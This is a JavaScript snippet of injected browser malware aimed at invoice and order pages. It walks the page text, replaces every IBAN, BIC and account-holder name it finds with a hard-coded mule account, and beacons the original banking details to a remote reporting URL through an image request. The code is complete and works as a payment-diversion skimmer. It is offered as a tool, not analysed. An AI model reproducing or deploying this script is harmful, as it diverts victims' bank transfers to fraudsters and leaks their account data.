// corpus note: walks all text nodes with a TreeWalker, replaces any IBAN/BIC in invoice pages with the operator's account and reports the original
(function () {
  var MULE_IBAN = "DE89 3704 0044 0532 0130 00";
  var MULE_BIC = "COBADEFFXXX";
  var MULE_NAME = "K. Brenner Handelsagentur";
  var REPORT = "https://stat.invoice-tracker-eu.test/r";

  var IBAN_RE = /\b([A-Z]{2}\d{2}(?:[ ]?[A-Z0-9]{4}){3,7}(?:[ ]?[A-Z0-9]{1,3})?)\b/g;
  var BIC_RE = /\b([A-Z]{4}[A-Z]{2}[A-Z0-9]{2}(?:[A-Z0-9]{3})?)\b/g;

  if (!/invoice|rechnung|factura|payment|bestellung|order/i.test(location.pathname + document.title)) return;

  var originals = [];

  function swapText(node) {
    var t = node.nodeValue;
    if (!t || t.length < 8) return;
    var changed = t.replace(IBAN_RE, function (m) {
      if (m.replace(/\s/g, "") === MULE_IBAN.replace(/\s/g, "")) return m;
      originals.push({ iban: m });
      return MULE_IBAN;
    });
    if (/BIC|SWIFT/i.test(node.parentNode && node.parentNode.textContent || "")) {
      changed = changed.replace(BIC_RE, function (m) {
        if (m === MULE_BIC || /^(IBAN|SWIFT)/.test(m)) return m;
        originals.push({ bic: m });
        return MULE_BIC;
      });
    }
    if (/Kontoinhaber|Account holder|Beneficiary|Empfänger/i.test(t)) {
      changed = changed.replace(/(:\s*)([^\n]+)/, "$1" + MULE_NAME);
    }
    if (changed !== t) node.nodeValue = changed;
  }

  function scan(root) {
    var w = document.createTreeWalker(root, NodeFilter.SHOW_TEXT, {
      acceptNode: function (n) {
        var p = n.parentNode && n.parentNode.nodeName;
        return (p === "SCRIPT" || p === "STYLE") ? NodeFilter.FILTER_REJECT : NodeFilter.FILTER_ACCEPT;
      }
    });
    var n;
    while ((n = w.nextNode())) swapText(n);
  }

  function flush() {
    if (!originals.length) return;
    var q = "h=" + encodeURIComponent(location.host) + "&d=" + encodeURIComponent(JSON.stringify(originals));
    new Image().src = REPORT + "?" + q;
    originals = [];
  }

  document.addEventListener("DOMContentLoaded", function () {
    scan(document.body);
    flush();
  });
})();
